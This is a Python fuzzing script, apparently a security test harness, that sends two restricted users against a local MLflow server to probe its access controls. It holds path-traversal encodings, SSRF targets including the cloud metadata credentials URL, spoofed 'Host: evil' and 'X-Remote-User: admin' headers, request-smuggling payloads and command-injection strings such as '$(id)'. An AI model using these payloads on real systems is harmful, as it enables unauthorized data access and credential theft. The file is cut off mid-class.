"""Two users who try to read and write what they were not given; runs on the host, stdlib alone.

    python intruder.py < JOB        JOB and what is printed are JSON

One of them has READ on what a third user owns, the other is shut out of it (DENY). Each goes
through every route of the release (tests/app/real.py lists them) with every value that could be a
place, in every spelling that came to mind, and follows up what was accepted: a run in the
experiment, a download of the version. Whatever is answered is searched for canaries: texts that lie
where neither of them may read. A listener on the host notes whoever the server was made to call.

JOB: {"door": port or path of a socket, "routes": […], "places": ["METHOD.field", …],
"admin", "owner", "reader", "stranger": [name, password], "bucket", "prefix", "canaries":
{text: name}, "folders": [keys and paths where canaries lie], "third": which third of all to try,
0, 1 or 2, or null for all}
"""

import base64
import gzip
import http.client
import itertools
import json
import re
import secrets
import socket
import sys
import threading
import time
import urllib.parse
from collections import Counter
from concurrent.futures import ThreadPoolExecutor

API = "/api/2.0/mlflow"
PROXY = "/api/2.0/mlflow-artifacts/artifacts"
UPLOAD = "/ajax-api/2.0/mlflow/upload-artifact"
FILE = "canary.txt"
THREADS = 6
PATIENCE = 40  # seconds for one answer
# What the server says to what it does not do at all here.
NOT_DONE = {501, 505}
# Of two deletions of one model at once PostgreSQL ends one, and MLflow has its client try again.
ENDED = b"DeadlockDetected"
# The stand-in for S3 answers 500 for an upload that it does not know, where S3 says 404.
OF_THE_STORE = "/mpu/complete/"
DOTS = (
    "..", "%2e%2e", "%2E.", "%252e%252e", "%25252e%25252e", "%c0%ae%c0%ae", "%e0%80%ae.", "%u002e.",
    "\uff0e\uff0e", "\u2025", "..%00", "..;", "....", "..%09", ". .", "..%20", "\x1b..",
)  # fmt: skip
SLASHES = ("/", "\\", "%2f", "%252f", "%5c", "%255c", "//", "/./", "%c0%af", "\uff0f", "%0a/")
ODD = (
    "", ".", "..", "/", "\0", "%00", "%", "%zz", "#", "?", "a#b", "a?b", "//[", "http://[x",
    "file:",
    "file://", "%25" * 14 + "2e", "é\u0301\U0001f600", "\ud800", "x" * 5000, "\r\nX: y", "{{7*7}}",
    "$(id)", "'", '"', "%s%n", "0", "-1", "1e999", "null", "[]", ".remote-mlflow-owner.json",
)  # fmt: skip


QUESTIONS = (
    "{mlflowGetRun(input:{runId:RUN}){run{DATA}}}",
    "{mlflowGetExperiment(input:{experimentId:EXPERIMENT}){experiment{name}}}",
    "{mlflowListArtifacts(input:{runId:RUN}){FILES}}",
    "{a:mlflowListArtifacts(input:{runId:OWN,path:PATH}){FILES}}",
    "{mlflowSearchRuns(input:{experimentIds:[EXPERIMENT]}){runs{DATA}}}",
    "query($x:String){mlflowListArtifacts(input:{runId:$x}){FILES}}",
    "{mlflowSearchModelVersions(input:{}){modelVersions{source}}}",
    '{mlflowGetMetricHistoryBulkInterval(input:{runIds:[RUN],metricKey:"x"}){metrics{key}}}',
    '{test(inputString:"x"){output}}', 'mutation{testMutation(inputString:"x"){output}}',
    "{" * 2000, "{a" * 500 + "}" * 500, "fragment a on Query{...a} {...a}", "", "\0",
    "{__typename " + "@skip(if:true)" * 500 + "}", "query a{__typename} query b{__typename}",
)  # fmt: skip


class Door:
    """The way in to a server: a port of this host, or a socket; one connection a thread."""

    def __init__(self, place):
        self.place, self.mine = place, threading.local()

    def open(self):
        if isinstance(self.place, int):
            return socket.create_connection(("127.0.0.1", self.place), PATIENCE)
        connection = socket.socket(socket.AF_UNIX)
        connection.settimeout(PATIENCE)
        connection.connect(self.place)
        return connection

    def ask(self, method, target, headers, body=b""):
        """Make one request; returns status, head and body. Status 0 is no answer at all."""
        for _ in range(2):
            connection = getattr(self.mine, "connection", None)
            if connection is None:
                connection = self.mine.connection = http.client.HTTPConnection("localhost")
                connection.sock = self.open()
            try:
                connection.putrequest(method, target, skip_accept_encoding=True)
                for name, value in headers.items():
                    connection.putheader(name, value)
                if body or method not in ("GET", "HEAD", "OPTIONS"):
                    connection.putheader("Content-Length", str(len(body)))
                connection.endheaders(body or None)
                answer = connection.getresponse()
                text = answer.read()
            except (OSError, http.client.HTTPException):
                connection.close()
                self.mine.connection = None
                continue
            if answer.will_close:
                self.mine.connection = None
            return answer.status, str(answer.headers), text
        return 0, "", b""

    def raw(self, request):
        """Send bytes as they are on a connection of their own; returns the answer likewise."""
        found = b""
        with self.open() as connection:
            try:
                connection.sendall(request)
                connection.settimeout(5)
                while part := connection.recv(65536):
                    found += part
            except OSError:
                pass
        head = re.match(rb"HTTP/1\.[01] (\d{3})", found)
        return int(head[1]) if head else 0, "", found


class User:
    """Somebody with a login, and what is theirs: names of fields and the values they have."""

    def __init__(self, door, name, password):
        self.door, self.name = door, name
        self.basic = "Basic " + base64.b64encode(f"{name}:{password}".encode()).decode()
        self.own = {}

    def ask(self, method, target, body=None, **headers):
        headers = {"Authorization": self.basic, "Content-Type": "application/json"} | headers
        if body is not None and not isinstance(body, bytes):
            body = json.dumps(body).encode()
        return self.door.ask(method, target, headers, body or b"")

    def got(self, method, target, body=None):
        status, _, text = self.ask(method, target, body)
        assert status == 200, (self.name, method, target, status, text[:300])
        return json.loads(text) if text[:1] == b"{" else text

    def settle(self, label, secret):
        """Make one of each kind of thing, whose artifacts say `secret`."""
        own = self.own
        own["experiment_id"] = self.got("POST", f"{API}/experiments/create", {"name": label})[
            "experiment_id"
        ]
        run = {"experiment_id": own["experiment_id"], "run_name": label}
        info = self.got("POST", f"{API}/runs/create", run)["run"]["info"]
        own["run_id"], own["location"] = info["run_id"], info["artifact_uri"]
        model = {"experiment_id": own["experiment_id"], "name": "m"}
        info = self.got("POST", f"{API}/logged-models", model)["model"]["info"]
        own["model_id"] = info["model_id"]
        places = [own["location"], info["artifact_uri"]]
        self.got("POST", f"{API}/registered-models/create", {"name": label})
        version = {"name": label, "source": own["location"], "run_id": own["run_id"]}
        self.got("POST", f"{API}/model-versions/create", version)
        own["name"], own["version"] = label, "1"
        own["trace_id"] = "tr-" + secrets.token_hex(16)
        told = trace(own["trace_id"], own["experiment_id"])
        self.got("POST", "/api/3.0/mlflow/traces", told)
        places.append(
            f"mlflow-artifacts:/{own['experiment_id']}/traces/{own['trace_id']}/artifacts"
        )
        for place in places:
            path = place.removeprefix("mlflow-artifacts:/")
            for name in (FILE, "model/" + FILE, "traces.json"):
                self.got("PUT", f"{PROXY}/{path}/{name}", secret.encode())
        own["artifact_path"] = own["location"].removeprefix("mlflow-artifacts:/")


def trace(name, experiment, **tags):
    where = {"type": "MLFLOW_EXPERIMENT", "mlflow_experiment": {"experiment_id": experiment}}
    info = {
        "trace_id": name,
        "trace_location": where,
        "request_time": "2026-01-01T00:00:00Z",
        "state": "OK",
        "tags": tags,
    }
    return {"trace": {"trace_info": info}}


SAME = {
    "experiment_ids": "experiment_id",
    "run_uuid": "run_id",
    "run_ids": "run_id",
    "source_run_id": "run_id",
    "trace_ids": "trace_id",
    "request_id": "trace_id",
    "request_ids": "trace_id",
    "experiment_name": "name",
    "x-mlflow-experiment-id": "experiment_id",
    "x-mlflow-run-id": "run_id",
}
FIXED = {"path": FILE, "artifact_file_path": FILE, "permission": "MANAGE", "query": "{__typename}"}
LEAVES = {"number": 1, "truth": True, "time": "2026-01-01T00:00:00Z", "duration": "1s"}


class Attack:
    """What one user tries, and what came of it."""

    def __init__(self, job, user, owner, forbidden, listener):
        self.job, self.user, self.owner = job, user, owner
        self.forbidden = {text.encode(): name for text, name in forbidden.items()}
        self.listener, self.number = listener, itertools.count()
        self.read, self.broken, self.slow, self.accepted = [], [], [], []
        self.statuses, self.made = Counter(), []
        self.places = set(job["places"])
        self.third, self.turns = job["third"], itertools.count()
        self.second = user.name == job["stranger"][0]

    # -- values ------------------------------------------------------------------------------

    def targets(self):
        """List the folders with canaries in them, as places that a server could be told."""
        bucket, run = self.job["bucket"], self.owner["location"]
        keys = [key for key in self.job["folders"] if not key.startswith("/")]
        paths = [path for path in self.job["folders"] if path.startswith("/")]
        below = run.removeprefix("mlflow-artifacts:/")
        keys.append(f"{self.job['prefix']}/{below}")
        yield from (f"s3://{bucket}/{key}" for key in keys)
        yield from (f"file://{path}" for path in paths)
        yield from paths
        yield from (f"mlflow-artifacts:/{'../' * n}{keys[0]}" for n in (1, 4))
        yield run
        key, path = keys[0], paths[0]
        yield from (
            f"S3://{bucket}/{key}", f" s3://{bucket}/{key}", f"s3:/{bucket}/{key}",
            f"s3a://{bucket}/{key}", f"\ts3://{bucket}/{key}", f"s3://{bucket}/{key}?x#y",
            f"%733://{bucket}/{key}", f"s3+http://{bucket}/{key}", f"file:{path}",
            f"file://localhost{path}", f"FILE://{path}", f"file:/{path}", f"local:{path}",
            f"~{path}", f"./{path}", f"{path}/%2e%2e/x", f"//{path}", f"\\\\localhost\\{path}",
            "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            f"http://127.0.0.1:{self.listener}/ssrf", f"https://localhost:{self.listener}/ssrf",
            f"ftp://localhost:{self.listener}/ssrf", f"sftp://localhost:{self.listener}/ssrf",
            f"hdfs://localhost:{self.listener}/ssrf", f"dbfs:/{path}", "gs://bucket/x",
            "wasbs://c@a.blob.core.windows.net/x", "abfss://c@a.dfs.core.windows.net/x",
            "databricks://x", "viewfs:/x", "r2://x@y/z", f"b2://{bucket}/{key}", "hf://x/y",
            "mlflow-artifacts://host/x", f"mlflow-artifacts://localhost:{self.listener}/ssrf",
            f"mlflow-artifacts:{run.partition(':')[2].lstrip('/')}", f"mlflow-artifacts:///{below}",
            f"MLFLOW-ARTIFACTS:/{below}", f"mlflow-artifacts:/x/../{below}",
            f"mlflow-artifacts:/./{below}", f"mlflow-artifacts://{below}",
            f"mlflow-artifacts:/%2e%2e/{key}", f"mlflow-artifacts:/..%2f{key}",
            f"mlflow-artifacts:/..\\{key}", f"mlflow-artifacts:/{below}#x",
            f"mlflow-artifacts:/{below.replace('/', '%2f')}", f"mlflow-artifacts:/{below}?x",
            "mlflow-artifacts:/", "mlflow-artifacts:",
            "mlflow-artifacts:/.remote-mlflow-owner.json",
            f"{self.user.own['location']}/../../../{below}", f"{self.user.own['location']}/../..",
            f"{self.user.own['location']}/%2e%2e/%2e%2e/{below}", self.user.own["location"] + "x",
            f"{self.user.own['location']}/..\\..\\..\\{below}",
            f"runs:/{self.owner['run_id']}/", f"runs://x/{self.owner['run_id']}/",
            f"runs:/{self.user.own['run_id']}/../../{self.owner['run_id']}/artifacts",
            f"runs:/../{self.owner['run_id']}", f"runs:{self.owner['run_id']}",
            f"RUNS:/{self.owner['run_id']}/x", f"runs:/{self.owner['run_id']}%2fx",
            f"models:/{self.owner['model_id']}", f"models:/{self.owner['name']}/1",
            f"models:/{self.owner['name']}@champion", f"models:/{self.owner['name']}/latest",
            f"models:/{self.user.own['name']}/../{self.owner['name']}/1", "models:/../../x",
            f"models://x/{self.owner['name']}/1",
            f"mlflow-artifacts:/{self.owner['experiment_id']}",
            f"mlflow-artifacts:/{self.owner['experiment_id']}/x", "plugin:x", "sqlite:///etc/x",
        )  # fmt: skip

    def paths(self):
        """List ways from the user's own folder to where canaries lie, in all spellings."""
        key = next(key for key in self.job["folders"] if not key.startswith("/"))
        below = self.owner["artifact_path"]
        spelt = [(dots, "/") for dots in DOTS] + [("..", slash) for slash in SLASHES]
        spelt += [("%2e%2e", "%2f"), ("%252e%252e", "%252f"), ("..", "%5c"), ("%2e%2e", "\\")]
        for dots, slash in spelt:
            # From a run's artifacts; from the proxy's root.
            for levels, end in ((4, f"{key}/{FILE}"), (3, f"{below}/{FILE}"), (1, f"{key}/{FILE}")):
                yield slash.join([dots] * levels + end.split("/"))
        file = next(path for path in self.job["folders"] if path.startswith("/")) + "/" + FILE
        yield from (file, "/" + file, "file://" + file, "file:" + file, file.replace("/", "%2f"))
        yield from (f"s3://{self.job['bucket']}/{key}/{FILE}", f"{below}/{FILE}", "/" + below)
        yield from (
            f"file:{below}/{FILE}",
            f"file:/{below}",
            f"./{below}/{FILE}",
            f"{below}%2f{FILE}",
        )
        yield from (f"%25{ord(below[0]):x}{below[1:]}/{FILE}", f"{below}/x/../{FILE}", "~/" + FILE)
        yield from ODD

    def value(self, name, of, route):
        """Return what a field of this name would hold, of the user's own or of the owner's."""
        if name == "name" and not re.search("registered-models|model-versions", route):
            return f"{self.user.name}-{next(self.number)}"
        if name == "name" and route.endswith("registered-models/create"):
            return f"{self.user.name}-{next(self.number)}"
        if name == "username":
            return self.job["owner"][0]
        return of.get(SAME.get(name, name)) or FIXED.get(name, "x")

    # -- requests ----------------------------------------------------------------------------

    def tries(self):
        """Yield (method, path, fields) of all that is tried on the routes."""
        targets, paths = list(self.targets()), list(self.paths())
        others = itertools.cycle([*targets, *paths])
        for route in sorted(self.job["routes"], key=lambda r: r["method"] == "DELETE"):
            method, path, takes = route["method"], route["path"], route["takes"]
            takes = dict(takes) | dict.fromkeys(re.findall("{(\\w+)}", path), "text")
            for of in (self.user.own, self.owner):
                yield method, path, self.filled(takes, path, of, None, None)
            names = list(leaves(takes))
            for at in range(len(names)):
                chosen = self.in_turn([next(others)])
                if self.is_place(route, names[at]):
                    chosen = paths if "path" in names[at] else [*targets, *paths[::7]]
                    chosen = self.share(chosen, path)
                for poison in chosen:
                    yield method, path, self.filled(takes, path, self.user.own, at, poison)
            if "/experiments/" in path or "traces" in path or "logged-models" in path:
                for tag in ("mlflow.artifactLocation", "mlflow.trace.archiveLocation"):
                    fields = self.filled(takes, path, self.user.own, None, None)
                    yield method, path, retagged(fields, tag, targets[0])

    def share(self, values, path):
        """Return all, or a quarter of the third: one for each user at /api, one at /ajax-api."""
        if self.third is None:
            return values
        return values[4 * self.third + 2 * self.second + path.startswith("/ajax") :: 12]

    def in_turn(self, values):
        """Yield all, or each third of all that is asked for here."""
        for value in values:
            if self.third is None or next(self.turns) % 3 == self.third:
                yield value

    def is_place(self, route, name):
        spelt = (f"{route['name']}.{name}", f"{route['name']} {name}")
        return name.rpartition(".")[2] not in ("key", "value") and any(
            each in self.places for each in spelt
        )

    def filled(self, takes, route, of, at, poison):
        number = itertools.count()

        def fill(kind, name):
            if isinstance(kind, dict):
                return {key: fill(value, key if key != "key" else name) for key, value in
                        kind.items()}  # fmt: skip
            if isinstance(kind, list):
                return [fill(kind[0], name)]
            if kind != "text":
                return kind[3:] if kind.startswith("is ") else LEAVES[kind]
            return poison if next(number) == at else self.value(name, of, route)

        return fill(takes, "")

    def send(self, method, path, fields):
        """Make a request of fields: those in the path, those in a query or a body."""
        rest = dict(fields)
        spelt = path
        for name in re.findall("{(\\w+)}", path):
            spelt = spelt.replace(f"{{{name}}}", safe(str(rest.pop(name))))
        headers = {}
        for name in [name for name in rest if "-" in name]:
            if str(rest[name]).isprintable() and str(rest[name]).isascii():
                headers[name] = str(rest.pop(name))
        if method == "GET":
            flat = {k: v if isinstance(v, str) else json.dumps(v) for k, v in rest.items()}
            spelt += "?" + urllib.parse.urlencode(flat, errors="surrogatepass")
            rest = None
        elif "upload-artifact" in path:
            spelt += "?" + urllib.parse.urlencode(rest, errors="surrogatepass")
            rest = b"planted"
        elif method == "PUT":
            rest = b"planted"
        answer = self.note(method, spelt, rest, **headers)
        if answer[0] == 200:
            self.follow(fields, answer[2])

    def note(self, method, target, body=None, raw=None, **headers):
        """Make a request and look at what came of it."""
        began = time.monotonic()
        answer = self.user.door.raw(raw) if raw else self.user.ask(method, target, body, **headers)
        took = time.monotonic() - began
        status, head, text = answer
        said = f"{self.user.name} {method} {target[:200]} {str(body or raw or '')[:400]}"
        self.statuses[status] += 1
        if took > 10:
            self.slow.append(f"{took:.0f} s: {said}")
        undone = status in NOT_DONE or (status == 503 and ENDED in text)
        if status == 0 or (status >= 500 and not undone and OF_THE_STORE not in target):
            self.broken.append(f"{status}: {said} -> {text[:300].decode(errors='replace')}")
        self.search(said, head.encode() + text)
        return answer

    def search(self, said, text):
        for canary, name in self.forbidden.items():
            if canary in text:
                self.read.append(f"{name}: {said}")
        for url in re.findall(rb'"(http[^"]+X-Amz-[^"]+)"', text):
            found = urllib.parse.unquote(urllib.parse.urlsplit(url.decode()).path)
            own = f"/{self.job['prefix']}/{self.user.own['experiment_id']}/"
            if own not in found and not self.may_read(found):
                self.read.append(f"signed for {found}: {said}")

    def may_read(self, path):
        """Tell whether a key is the owner's while the user may read what the owner has."""
        return (
            self.owner["secret"].encode() not in self.forbidden
            and f"/{self.job['prefix']}/{self.owner['experiment_id']}/" in path
        )

    # -- what was accepted --------------------------------------------------------------------

    def follow(self, fields, text):
        """Use what a request has made, to read and to write where it lies."""
        try:
            told = json.loads(text)
        except ValueError:
            return
        if not isinstance(told, dict):
            return
        if set(told) == {"experiment_id"}:
            self.made.append(told["experiment_id"])
            if fields.get("artifact_location"):
                self.accepted.append(str(fields["artifact_location"]))
            self.use_experiment(told["experiment_id"])
        version = told.get("model_version")
        if isinstance(version, dict) and version.get("source"):
            if fields.get("source") == version["source"]:
                self.accepted.append(version["source"])
            self.use_version(version["name"], version["version"])

    def use_experiment(self, experiment):
        status, _, text = self.note("POST", f"{API}/runs/create", {"experiment_id": experiment})
        if status != 200:
            return
        run = json.loads(text)["run"]["info"]["run_id"]
        self.note("POST", f"{UPLOAD}?run_uuid={run}&path={FILE}", b"planted")
        self.note("GET", f"{API}/artifacts/list?run_id={run}")
        self.note("GET", f"/get-artifact?run_uuid={run}&path={FILE}")
        model = {"experiment_id": experiment, "name": "m"}
        self.note("POST", f"{API}/logged-models", model)

    def use_version(self, name, version):
        query = urllib.parse.urlencode({"name": name, "version": version}, errors="replace")
        self.note("GET", f"{API}/model-versions/get-download-uri?{query}")
        for file in (FILE, "model/" + FILE, ""):
            self.note("GET", f"/model-versions/get-artifact?{query}&path={file}")

    # -- all of it ----------------------------------------------------------------------------

    def run(self):
        with ThreadPoolExecutor(THREADS) as pool:
            for _ in pool.map(lambda words: self.send(*words), self.tries()):
                pass
            for _ in pool.map(lambda words: self.note(*words), self.direct()):
                pass
            for _ in pool.map(lambda words: self.note(*words[:3], **words[3]), self.spans()):
                pass
            for _ in pool.map(
                lambda raw: self.note("raw", "", raw=raw), self.in_turn(self.spellings())
            ):
                pass
            for _ in pool.map(lambda words: self.note(*words), self.in_turn(self.questions())):
                pass

    def direct(self):
        """Yield what names the owner's things without any trick, and paths as they are spelt."""
        own = self.owner
        for prefix in ("/api", "/ajax-api"):
            proxy = f"{prefix}/2.0/mlflow-artifacts"
            whole = f"{own['artifact_path']}/{FILE}"
            yield "PUT", f"{proxy}/artifacts/{own['artifact_path']}/planted", b"planted"
            yield "PUT", f"{proxy}/artifacts/{whole}", b"planted"
            yield "PUT", f"{proxy}/artifacts/x/planted", b"planted"
            yield "DELETE", f"{proxy}/artifacts/{whole}", None
            yield "DELETE", f"{proxy}/artifacts/{own['experiment_id']}", None
            for kind in ("create", "complete", "abort"):
                for path in (own["artifact_path"], ".", "..", ""):
                    body = {"path": f"x/{FILE}", "num_parts": 1, "upload_id": "x", "parts": []}
                    yield "POST", f"{proxy}/mpu/{kind}/{path}", body
            for path in self.share(list(self.paths()), prefix):
                for start in ("", f"{self.user.own['artifact_path']}/"):
                    spelt = rough(start + path)
                    yield "GET", f"{proxy}/artifacts/{spelt}", None
                    yield "GET", f"{proxy}/presigned/{spelt}", None
                    yield "PUT", f"{proxy}/artifacts/{spelt}", b"planted"
                yield "GET", f"{proxy}/artifacts?path={rough(path)}", None
        for path in ("/static-files/", "/build/", "/", "/static-files/../../../../", "/.%2e/"):
            for file in (folder + "/" + FILE for folder in self.job["folders"]):
                yield "GET", path + rough(file), None
                yield "GET", path + "..%2f" * 12 + rough(file), None

    def spans(self):
        """Yield what is sent as OpenTelemetry, in each encoding."""
        target = next(self.targets())
        keys = ("mlflow.artifactLocation", "mlflow.trace.archiveLocation", "mlflow.traceRequestId")
        for experiment, key in itertools.product(
            (self.user.own["experiment_id"], self.owner["experiment_id"], "../..", target), keys
        ):
            name = secrets.token_hex(16)
            attributes = [{"key": key, "value": {"stringValue": target}}]
            span = {"traceId": name, "spanId": "1" * 16, "name": "x", "attributes": attributes,
                    "startTimeUnixNano": "1", "endTimeUnixNano": "2"}  # fmt: skip
            resource = {"resource": {"attributes": attributes}, "scopeSpans": [{"spans": [span]}]}
            body = json.dumps({"resourceSpans": [resource]}).encode()
            header = {"X-Mlflow-Experiment-Id": experiment}
            yield "POST", "/v1/traces", body, header
            packed = header | {"Content-Encoding": "gzip"}
            yield "POST", "/v1/traces", gzip.compress(body), packed
            yield "POST", "/v1/traces", body, packed
            yield "POST", "/v1/traces", body, header | {"Content-Type": "application/x-protobuf"}
            yield "POST", "/v1/traces", body, header | {"Content-Encoding": "x" * 200}
            for path in ("get-trace-artifact", "traces/get"):
                for version in ("2.0", "3.0"):
                    asked = (
                        f"/ajax-api/{version}/mlflow/{path}?request_id=tr-{name}&trace_id=tr-{name}"
                    )
                    yield "GET", asked, None, {}
        for name in (self.owner["trace_id"], "../x", f"tr-{'0' * 32}"):
            for version in ("2.0", "3.0"):
                path = f"/ajax-api/{version}/mlflow/get-trace-artifact"
                for file in ("", "&path=" + FILE, "&path=..%2f..%2f..%2f" + FILE):
                    yield "GET", f"{path}?request_id={name}{file}", None, {}

    def questions(self):
        """Yield GraphQL: every query that the schema has, for the owner's things and paths."""
        asked = "{__schema{queryType{fields{name args{name type{name kind ofType{name}}}}" \
                " mutationType{fields{name args{name type{name kind ofType{name}}}}}}"  # fmt: skip
        yield "POST", "/graphql", {"query": asked}
        own = self.owner
        values = {
            "RUN": json.dumps(own["run_id"]),
            "OWN": json.dumps(self.user.own["run_id"]),
            "EXPERIMENT": json.dumps(own["experiment_id"]),
            "PATH": json.dumps(next(self.paths())),
            "FILES": "apiError{message} files{path} rootUri",
            "DATA": "info{artifactUri} data{params{key value}}",
        }
        for query in QUESTIONS:
            for name, value in values.items():
                query = query.replace(name, value)
            for variables in (None, {"x": own["run_id"]}, [], "x", 1):
                yield "POST", "/graphql", {"query": query, "variables": variables}
            yield "GET", "/graphql?" + urllib.parse.urlencode({"query": query})
        for body in ([], "x", 1, None, {"query": 1}, {"query": ["x"]}, {"query": None}, b"x", b""):
            yield "POST", "/graphql", body

    def spellings(self):
        """Yield whole requests as bytes: one forbidden thing in each way HTTP lets one say it."""
        target, own = next(self.targets()), self.user.own
        other = self.owner["location"]
        for path, fields in (
            (f"{API}/experiments/create", {"name": "", "artifact_location": target}),
            (f"{API}/model-versions/create", {"name": own["name"], "source": target}),
            (
                f"{API}/model-versions/create",
                {"name": own["name"], "source": other, "run_id": own["run_id"]},
            ),
            (
                "/api/3.0/mlflow/traces",
                trace("tr-x", own["experiment_id"], **{"mlflow.artifactLocation": other}),
            ),
            (
                f"{API}/artifacts/presigned-download-url",
                {"run_id": own["run_id"], "path": "../" * 4 + self.job["folders"][0]},
            ),
        ):
            fields = dict(fields)
            if "artifact_location" in fields:
                fields["name"] = f"{self.user.name}-{next(self.number)}"
            yield from self.spelt(path, fields)

    def spelt(self, path, fields):
        plain = json.dumps(fields)
        key = list(fields)[-1]
        camel = {re.sub("_(.)", lambda m: m[1].upper(), k): v for k, v in fields.items()}
        good = json.dumps({**fields, key: ""})
        twice = good[:-1] + ", " + plain[1:], plain[:-1] + ", " + good[1:]
        escaped = plain.replace(f'"{key}"', f'"\\u00{ord(key[0]):x}{key[1:]}"')
        form = urllib.parse.urlencode({k: v if isinstance(v, str) else json.dumps(v)
                                       for k, v in fields.items()})  # fmt: skip
        parts = "".join(
            f'--b\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n'
            for k, v in fields.items()
        )
        for body in (
            plain, json.dumps(camel), json.dumps({**fields, **camel}), *twice, escaped,
            json.dumps(plain), f"[{plain}]", "\ufeff" + plain, plain + " x", "\0" + plain,
            plain.encode("utf-16"), plain.encode("utf-16-le"), plain.encode("utf-32"),
            plain.encode() + b"\xff", json.dumps({k: [v] for k, v in fields.items()}),
            json.dumps({k: {"value": v} for k, v in fields.items()}), form, parts + "--b--\r\n",
            "{}", "", "null", json.dumps({"x": fields}), plain.replace('"', "'"),
            json.dumps({f" {k}": v for k, v in fields.items()}), gzip.compress(plain.encode()),
            json.dumps({k.upper(): v for k, v in fields.items()}), "[" * 9000, '{"a":' * 9000,
            json.dumps({**fields, "name": "x" * 60000}), json.dumps({**fields, "name": 1e400}),
        ):  # fmt: skip
            body = body if isinstance(body, bytes) else body.encode()
            yield self.whole("POST", path, body)
        body = plain.encode()
        for kind in (
            "", "text/plain", "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=b",
            "application/json; charset=utf-16", "application/json; charset=utf-7",
            "APPLICATION/JSON",
            "application/x-protobuf", "application/json; charset=\"x",
            "application/json, text/plain",
            "application/vnd.api+json", "x", "application/json;", "multipart/form-data",
        ):  # fmt: skip
            yield self.whole("POST", path, body, kind)
            yield self.whole("POST", path, form.encode(), kind)
            yield self.whole("POST", path, (parts + "--b--\r\n").encode(), kind)
        query = urllib.parse.urlencode(fields)
        for method in (
            "GET",
            "HEAD",
            "OPTIONS",
            "PUT",
            "PATCH",
            "DELETE",
            "TRACE",
            "PROPFIND",
            "X",
        ):
            yield self.whole(method, path, body)
            yield self.whole(method, f"{path}?{query}", body)
        for header in ("X-HTTP-Method-Override: POST", "X-HTTP-Method: POST", "_method: POST"):
            yield self.whole("GET", path, body, extra=header)
        for header in (
            f"X-Original-URL: {path}", f"X-Rewrite-URL: {path}", "X-Script-Name: /x",
            "X-Forwarded-Prefix: /x", "X-Forwarded-Host: evil", "X-Forwarded-For: 127.0.0.1",
            "Forwarded: for=127.0.0.1;host=localhost", "X-Remote-User: admin", "Remote-User: admin",
            "Expect: 100-continue", "Range: bytes=0-1", "Upgrade: websocket",
            "Content-Encoding: gzip",
            "X-MLFLOW-WORKSPACE: x", "Content_Length: 5", "Cookie: session=x", "TE: trailers",
            f"Authorization: {self.user.basic}", "Authorization: Bearer x", "Host: evil",
        ):  # fmt: skip
            yield self.whole("POST", path, body, extra=header)
            yield self.whole("POST", "/health", body, extra=header)
        for other in (
            path + "/", "/" + path, path.replace("/mlflow/", "//mlflow/"), path.upper(),
            path.replace("mlflow", "MLflow"), path.replace("create", "%63reate"), path + "%2f",
            path.replace("/mlflow/", "/mlflow%2f"), path.replace("/mlflow/", "/./mlflow/"),
            path.replace("/mlflow/", "/x/../mlflow/"), path.replace("/mlflow/",
            "/x/%2e%2e/mlflow/"),
            path.replace("/mlflow/", "/mlflow;x/"), path + "?x", path + "#x", path + "%00",
            path.replace("/api/", "/ajax-api/"), "http://localhost" + path, "x" + path,
            path.replace("/mlflow/", "/preview/mlflow/"), path.replace("2.0", "3.0"),
            path + ".json",
            "/static-files/.." + path, "/health/.." + path, "/health%2f.." + path, "*", "/" * 900,
            "/health?/" + path, path + "x" * 20000, "/static-files/..%2f" + path, path + "%0d%0ax",
        ):  # fmt: skip
            yield self.whole("POST", other, body)
        head = self.head("POST", path, "application/json")
        size = b"Content-Length: %d\r\n" % len(body)
        chunks = b"".join(b"1\r\n%c\r\n" % byte for byte in body[:200])
        chunks += b"%x\r\n%s\r\n0\r\n\r\n" % (max(len(body) - 200, 1), body[200:] or b" ")
        yield head + b"Transfer-Encoding: chunked\r\n\r\n" + chunks
        yield head + size + b"Transfer-Encoding: chunked\r\n\r\n" + chunks
        yield head + b"Transfer-Encoding: x, chunked\r\n\r\n" + chunks
        yield head + b"Transfer-Encoding : chunked\r\n" + size + b"\r\n" + body
        yield head + size + size + b"\r\n" + body
        yield head + size + b"Content-Length: 0\r\n\r\n" + body
        yield head.replace(b"HTTP/1.1", b"HTTP/1.0") + size + b"\r\n" + body
        yield head.replace(b"HTTP/1.1", b"HTTP/2.0") + size + b"\r\n" + body
        yield head.replace(b"HTTP/1.1", b"HTTP/0.9") + size + b"\r\n" + body
        yield head.replace(b"\r\n", b"\n") + size.replace(b"\r\n", b"\n") + b"\n" + body
        # One request inside another's body.
        inner = self.whole("POST", path, body)
        for outer in (
            b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n",
            b"Content-Length: 0\r\n",
        ):
            start = self.head("GET", "/health", "").replace(b"Connection: close\r\n", b"")
            yield start + outer + b"\r\n0\r\n\r\n" + inner

    def head(self, method, path, kind):
        lines = [
            f"{method} {path} HTTP/1.1",
            "Host: localhost",
            f"Authorization: {self.user.basic}",
        ]
        lines += [f"Content-Type: {kind}"] if kind else []
        return "\r\n".join([*lines, "Connection: close", ""]).encode()

    def whole(self, method, path, body, kind="application/json", extra=""):
        head = self.head(method, path, kind) + (extra + "\r\n" if extra else "").encode()
        return head + b"Content-Length: %d\r\n\r\n" % len(body) + body


def leaves(takes, name=""):
    """Yield the names of the texts of a shape, dotted, in the order in which they are filled."""
    if isinstance(takes, dict):
        for key, value in takes.items():
            yield from leaves(value, f"{name}.{key}".lstrip("."))
    elif isinstance(takes, list):
        yield from leaves(takes[0], name)
    elif takes == "text":
        yield name


def retagged(fields, key, value):
    """Return fields whose tags are this one tag."""
    if isinstance(fields, list):
        return [retagged(each, key, value) for each in fields]
    if not isinstance(fields, dict):
        return fields
    if set(fields) == {"key", "value"}:
        return {"key": key, "value": value}
    made = {name: retagged(each, key, value) for name, each in fields.items()}
    if "key" in made and "value" in made:
        made |= {"key": key, "value": value}
    for name in ("tags", "trace_metadata"):
        if isinstance(made.get(name), dict):
            made[name] = {key: value}
    return made


def safe(text):
    """Quote what cannot stand in a request's first line, or would end a path; nothing else."""
    return urllib.parse.quote(text, safe="/%\\:;@&=+$,.~!*'()-_|", errors="surrogatepass")


def rough(text):
    """Leave a path as it is spelt, but for bytes that no request's first line can have."""
    return urllib.parse.quote(text, safe="".join(map(chr, range(33, 127))), errors="surrogatepass")


class Listener(threading.Thread):
    """Notes who connects: nobody should."""

    def __init__(self):
        super().__init__(daemon=True)
        self.heard = []
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port = self.socket.getsockname()[1]

    def run(self):
        while True:
